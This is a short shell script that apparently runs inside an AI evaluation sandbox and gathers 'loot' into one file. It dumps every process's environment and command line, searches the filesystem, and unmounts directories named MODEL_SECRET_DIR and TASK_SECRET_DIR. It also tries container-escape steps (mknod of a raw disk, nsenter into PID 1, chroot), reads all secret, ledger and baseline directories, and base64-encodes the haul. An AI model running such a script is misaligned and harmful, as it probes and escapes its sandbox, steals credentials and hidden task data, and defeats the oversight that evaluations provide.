loot=../OUTPUT_DIR/loot.txt
{
  env; id
  for p in /proc/[0-9]*; do
    tr '\0' '\n' < $p/environ; tr '\0' ' ' < $p/cmdline; ls -l $p/fd $p/cwd $p/root; cat $p/mountinfo
  done
  timeout 10 find / -xdev -name '*codeloom*'
  find .. -xdev
  umount ../MODEL_SECRET_DIR ../TASK_SECRET_DIR; mount -t proc none /proc
  mknod ../OUTPUT_DIR/disk b 8 0; nsenter -t 1 -a true; chroot / true
  find .. -xdev -path ../OUTPUT_DIR -prune -o -type f -exec cat {} +
  cat ../MODEL_SECRET_DIR/* ../TASK_SECRET_DIR/* ../LEDGER_DIR/* ../BASELINE_DIR/*
} >> $loot 2>&1
base64 -w0 $loot > ../OUTPUT_DIR/loot-base64.txt
tail -c 3000 $loot
